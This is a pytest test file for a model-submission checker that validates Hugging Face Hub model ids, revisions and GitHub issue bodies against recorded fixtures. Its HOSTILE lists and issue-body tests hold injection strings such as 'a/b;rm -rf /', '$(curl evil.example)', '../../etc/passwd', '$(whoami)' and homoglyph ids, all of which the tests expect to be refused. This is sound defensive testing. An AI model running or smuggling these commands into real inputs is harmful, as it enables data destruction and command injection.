"""``suite submit check`` on Hub metadata fixtures (the Hub is unreachable here) and on hostile input.

``hub_metadata.json`` holds model_info responses in the Hub API's JSON shape (parsed by
``huggingface_hub``'s own ``ModelInfo``) plus each model's config files; they are written for these
tests after the API's format, not downloaded.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from huggingface_hub.hf_api import ModelInfo

from suite.submission import CONSENTS, HubModel, Limits, Unavailable, check_submission, hub_model, read_issue
from tests.test_cli import run_suite

FIXTURES = json.loads((Path(__file__).parent / "hub_metadata.json").read_text())
REVISION = "0123456789abcdef0123456789abcdef01234567"


def recorded_hub(model_id: str, revision: str | None) -> HubModel:
    """The Hub as the fixtures describe it; a revision other than None/main/the commit is unknown."""
    case = FIXTURES["cases"][FIXTURES["index"].get(model_id, "missing")]
    if "unavailable" in case:
        raise Unavailable(case["unavailable"])
    info = ModelInfo(**case["model_info"])
    if revision not in (None, "main", "v1.0", info.sha):
        raise Unavailable(FIXTURES["cases"]["no-revision"]["unavailable"])
    return hub_model(info, case["config"], case["tokenizer_config"])


def never_called(model_id: str, revision: str | None) -> HubModel:
    raise AssertionError(f"the Hub was asked about {model_id!r} though the input is malformed")


def test_a_public_safetensors_model_is_accepted_at_a_resolved_commit() -> None:
    verdict = check_submission("example-org/reasoner-1.5B", "v1.0", recorded_hub)
    assert verdict.accepted, verdict.problems
    assert verdict.commit == "a" * 40 and verdict.parameters == 1777088000 and verdict.context == 131072
    assert "`example-org/reasoner-1.5B` at commit `" + "a" * 40 + "`" in verdict.markdown()
    assert check_submission("example-org/vision-reasoner", None, recorded_hub).context == 65536  # text_config


def test_an_accepted_long_id_is_passed_on_whole() -> None:
    long_id = "example-org/" + "r" * 90

    def hub(model_id: str, revision: str | None) -> HubModel:
        case = FIXTURES["cases"]["good"]
        return hub_model(ModelInfo(**case["model_info"] | {"id": model_id}), case["config"], case["tokenizer_config"])

    verdict = check_submission(long_id, None, hub)
    assert verdict.accepted and verdict.to_json()["model_id"] == long_id and f"`{long_id}`" in verdict.markdown()


@pytest.mark.parametrize(
    ("model_id", "revision", "reason"),
    [
        ("example-org/custom-arch", None, "needs custom code (auto_map in config.json)"),
        ("example-org/custom-tokenizer", None, "needs custom code (auto_map in tokenizer_config.json)"),
        ("example-org/pickled", None, "has no safetensors weights"),
        ("example-org/pickled", None, "parameter count is unknown"),
        ("example-org/huge-405B", None, "405.0B parameters, over the limit of 80B"),
        ("example-org/short-ctx", None, "context is 4,096 tokens, under the 32,768"),
        ("example-org/no-config", None, "has no config.json"),
        ("example-org/private", None, "is private; only public models"),
        ("example-org/gated", None, "is gated"),
        ("example-org/missing", None, "does not exist on the Hub or is not public"),
        ("example-org/reasoner-1.5B", "no-such-branch", "no such revision"),
        ("example-org/reasoner-1.5B", "b" * 40, "no such revision"),
    ],
)
def test_models_that_cannot_be_run_are_refused_with_a_reason(model_id: str, revision: str | None, reason: str) -> None:
    verdict = check_submission(model_id, revision, recorded_hub)
    assert not verdict.accepted and any(reason in p for p in verdict.problems), verdict.problems
    assert "Submission refused" in verdict.markdown()


HOSTILE = [
    "a/b;rm -rf /",
    "$(curl evil.example)/x",
    "org/model`id`",
    "org/model && echo pwned",
    "org/model\nother/model",
    "org/model'\"",
    "../../etc/passwd",
    "org/../secret",
    "./org/model",
    "org//model",
    "org/model/extra",
    "/org/model",
    "org/-model",
    "org/model.",
    "org/mo--del",
    "org/mo..del",
    "deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5\u0412",  # Cyrillic capital Ve looks like B
    "deepseek-\u0430i/model",  # Cyrillic a
    "org/model\u200b",  # zero-width space
    "ｏｒｇ/ｍｏｄｅｌ",  # full-width letters  # noqa: RUF001
    "x" * 10_000,
    "org/" + "m" * 10_000,
    "",
    "org",
    "org/model name",
]


@pytest.mark.parametrize("model_id", HOSTILE)
def test_hostile_model_ids_are_refused_before_the_hub_is_asked(model_id: str) -> None:
    verdict = check_submission(model_id, None, never_called)
    assert not verdict.accepted and verdict.problems[0].startswith("the model id")
    comment = verdict.markdown()  # what the workflow posts: the input quoted as inert text
    assert comment.isascii() and comment.count("`") == 2 and "@" not in comment and "$(" not in comment
    assert len(comment) < 800 and comment.count("\n- ") == 1


@pytest.mark.parametrize("revision", ["main; rm -rf /", "../x", "a" * 10_000, "--force", "v1\u0430", "refs//heads", ""])
def test_hostile_revisions_are_refused(revision: str) -> None:
    verdict = check_submission("example-org/reasoner-1.5B", revision or " ", never_called)
    assert not verdict.accepted and "the revision" in verdict.problems[0]


def test_stricter_limits_refuse_what_defaults_accept() -> None:
    assert not check_submission("example-org/reasoner-1.5B", None, recorded_hub, Limits(max_parameters=10**9)).accepted
    assert not check_submission("example-org/reasoner-1.5B", None, recorded_hub, Limits(min_context=262144)).accepted


def issue_body(model_id: str, revision: str = "_No response_", ticked: int = len(CONSENTS)) -> str:
    boxes = "\n".join(f"- [{'X' if i < ticked else ' '}] {c}" for i, c in enumerate(CONSENTS))
    return (
        f"### Model id\n\n{model_id}\n\n### Revision\n\n{revision}\n\n### Contact\n\n@someone\n\n"
        f"### Before you submit\n\n{boxes}\n"
    )


def test_issue_bodies_are_read_as_the_form_renders_them() -> None:
    submission = read_issue(issue_body("example-org/reasoner-1.5B"))
    assert (submission.model_id, submission.revision, submission.problems) == ("example-org/reasoner-1.5B", None, ())
    assert read_issue(issue_body("org/m", "v1.0")).revision == "v1.0"
    unticked = read_issue(issue_body("org/m", ticked=1))
    assert [p for p in unticked.problems if "is not ticked" in p] and len(unticked.problems) == 2
    assert read_issue("just some text").problems[0].startswith("the issue has no 'Model id'")
    hostile = read_issue(issue_body("org/model\n### Revision\n\nmain; rm -rf /"))
    verdict = check_submission(hostile.model_id, hostile.revision, never_called)
    assert not verdict.accepted


def test_the_issue_form_and_the_reader_agree() -> None:
    import yaml

    form = yaml.safe_load((Path(__file__).parents[2] / ".github" / "ISSUE_TEMPLATE" / "submission.yml").read_text())
    labels = {item["attributes"]["label"]: item for item in form["body"] if "label" in item.get("attributes", {})}
    assert {"Model id", "Revision", "Contact", "Before you submit"} <= set(labels)
    options = labels["Before you submit"]["attributes"]["options"]
    assert [o["label"] for o in options] == list(CONSENTS) and all(o["required"] for o in options)


def test_cli_refuses_hostile_input_offline_and_reports_an_unreachable_hub(tmp_path: Path) -> None:
    offline = os.environ | {"HF_HUB_OFFLINE": "1"}
    refused = run_suite("submit", "check", "a/b;rm -rf /", "--json", str(tmp_path / "v.json"), env=offline)
    assert refused.returncode == 1 and "Submission refused" in refused.stdout
    verdict = json.loads((tmp_path / "v.json").read_text())
    assert verdict["accepted"] is False and verdict["model_id"] == "a/b;rm -rf /"
    body = tmp_path / "body.md"
    body.write_text(issue_body("org/$(whoami)"))
    from_issue = run_suite("submit", "check", "--issue", str(body), "--markdown", str(tmp_path / "c.md"), env=offline)
    assert from_issue.returncode == 1 and "$(" not in (tmp_path / "c.md").read_text()
    unreachable = run_suite("submit", "check", "example-org/reasoner-1.5B", env=offline)
    assert unreachable.returncode == 2 and "HF_HUB_OFFLINE is set" in unreachable.stderr
    assert "Traceback" not in unreachable.stderr
